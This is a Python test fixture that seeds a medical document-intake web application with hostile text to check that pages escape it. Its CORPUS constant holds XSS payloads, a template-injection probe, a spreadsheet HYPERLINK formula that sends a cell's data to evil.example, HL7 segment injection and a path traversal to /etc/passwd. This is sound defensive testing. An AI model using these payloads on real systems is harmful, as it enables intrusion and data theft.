"""A site full of hostile text: names, file names, senders, notes and OCR words that do harm if they are not text."""

from __future__ import annotations

from pathlib import Path

import msgspec

from pipeline.desk_case import glance_of
from pipeline.desk_deeds import concluded
from pipeline.desk_records import DeskChange, Note, Place, Sample, Verdict
from pipeline.items import Change, IndexEntry, Item, StageResult
from pipeline.ports import PatientChange
from pipeline.records import (
    Box,
    Candidate,
    Classification,
    Destination,
    Doubt,
    Evidence,
    Extraction,
    Field,
    Match,
    Outcome,
    Page,
    Patient,
    Reading,
    Receipt,
    Routing,
    Sender,
    Word,
)
from pipeline.wiring import App

CANARY = "Canaryzzq"
CORPUS = (
    f"<script>window.pwned=1</script>{CANARY}",
    f"\"'><img src=x onerror=window.pwned=1>{CANARY}",
    f"</script><svg/onload=window.pwned=1>{CANARY}",
    f"' autofocus onfocus=window.pwned=1 x='{CANARY}",
    f"javascript:window.pwned=1//{CANARY}",
    f"{{{{7*7}}}}{{% raw %}}{CANARY}",
    f'=HYPERLINK("http://evil.example/?"&A1);{CANARY}',
    f"|^~\\&\rPID|1||{CANARY}",
    f"../../../etc/passwd\x00{CANARY}",
    f"-->]]><b>{CANARY}</b>\u202e\u0000",
)
HTML = CORPUS[0] + CORPUS[1] + CORPUS[2] + CORPUS[3]
AT = "2026-11-02T03:04:05.000Z"
BOX = Box(left=100, top=120, right=420, bottom=160)
PAGES = ("/queue", "/documents/d-1", "/documents/d-2", "/documents/d-3", "/patients", "/patients/P1", "/upload",
         "/quality", "/operations", "/audit", "/account")  # fmt: skip


def fill(app: App) -> None:
    """Two documents on the desk (of sites north and south), one filed, one in quarantine; all their texts hostile."""
    app.patients.apply(
        PatientChange(patient=Patient(patient_id=f"P{number}", family_name=HTML, given_name=CORPUS[6], mrn=CORPUS[5],
                                      phone=CORPUS[7], address_line=CORPUS[3], birth_date="1961-03-04"))
        for number in (1, 2)
    )  # fmt: skip
    for number, place in enumerate(("north", "south", "south"), 1):
        receipt = Receipt(
            receipt_id=f"r-{number}", sha256=f"{number}" * 64, size=3, name=f"../../{HTML}.pdf", source="fax",
            identity=f"i{number}", received_at=AT, destination=Destination(site=place), sender=Sender(name=CORPUS[2]),
        )  # fmt: skip
        app.ledger.record(receipt)
        file_id = app.ledger.file_of(receipt)
        document(app, number, file_id, receipt, "filed" if number == 3 else "review")
    damaged = Doubt(code="damaged", says="This file is damaged.")
    held = Item(item_id="d-4", kind="document", file_id="f-x", sha256="4" * 64, name=f"../../{HTML}", received_at=AT,
                state="quarantine", pages=(1,), reasons=(damaged,))  # fmt: skip
    app.ledger.commit(Change(items=(held,)))


def document(app: App, number: int, file_id: str, receipt: Receipt, state: str) -> None:
    item = Item(
        item_id=f"d-{number}", kind="document", file_id=file_id, sha256=receipt.sha256, name=receipt.name,
        received_at=AT, state=state, type="lab_result", pages=(1,), decided_at=AT,
        patient_id="P1" if state == "filed" else None,
        reasons=() if state == "filed" else (Doubt(code="match_unsure", says=f"Not sure: {HTML}"),),
    )  # fmt: skip
    outcome = judged()
    reading = Reading(media_type="image/tiff", pages=(page(),))
    results = (
        StageResult(item_id=file_id, stage="read", version="1", digest="1", body=msgspec.json.encode(reading)),
        concluded(item, outcome),
    )
    name = item.item_id
    verdict = Verdict(deed_id=f"x-{number}", item_id=name, at=AT, actor="user:bo", kind="file", chart="first",
                      fields=(("family_name", 0.9, False),))  # fmt: skip
    desk = DeskChange(
        glances=(glance_of(item, outcome, (receipt,)),),
        notes=(Note(item_id=name, actor="user:bo", at=AT, to="", text=HTML),),
        places=(Place(item_id=name, assignee=CORPUS[3][:60]),) if number == 2 else (),
        verdicts=(verdict,),
        samples=(Sample(item_id=name, drawn_at=AT, reviewed_at=AT, reviewer="user:bo"),) if state == "filed" else (),
    )
    entry = IndexEntry(document_id=name, patient_id="P1", type="lab_result", document_date="2026-01-01", filed_at=AT,
                       body=b"{}")  # fmt: skip
    entries = (entry,) if state == "filed" else ()
    app.ledger.commit(Change(items=(item,), results=results, desk=desk, entries=entries))


def page() -> Page:
    words = tuple(
        Word(text=text, box=Box(left=100, top=120 + 60 * row, right=420, bottom=160 + 60 * row), line=row)
        for row, text in enumerate((*CORPUS, "Final", "laboratory", "report"))
    )
    return Page(number=1, width=850, height=1100, dpi=100.0, kind="fine_fax", words=words)


def judged() -> Outcome:
    """A conclusion with every hostile text as a field, two charts that fit, and evidence of the type."""
    names = ("family_name", "given_name", "ordering_provider", "performing_lab", "accession_number", "mrn", "phone",
             "middle_name")  # fmt: skip
    fields = {
        name: Field(value=text, raw=text, page=1, box=BOX, confidence=0.5 + 0.05 * place)
        for place, (name, text) in enumerate(zip(names, CORPUS, strict=False))
    }
    fields["birth_date"] = Field(value="1961-03-04", raw="3/4/61", page=1, box=BOX, confidence=0.95)
    candidates = tuple(Candidate(patient_id=f"P{number}", probability=0.5) for number in (1, 2))
    return Outcome(
        pages=(1,),
        classification=Classification(
            type="lab_result", confidence=0.9, probabilities={"lab_result": 0.9}, model="test",
            evidence=(Evidence(term=HTML, weight=1.0, page=1, box=BOX),),
        ),
        extraction=Extraction(fields=fields),
        match=Match(decision="review", patient_id=None, probability=0.5, candidates=candidates),
        routing=Routing(route="review", doubts=()),
    )  # fmt: skip


class Painter:
    """Draws every page of the site as the same picture, without a reading process."""

    def picture(self, path: Path, page: Page, out: Path, small: Path) -> None:
        from PIL import Image

        Image.new("L", (page.width, page.height), 250).save(out)
        Image.new("L", (85, 110), 250).save(small)
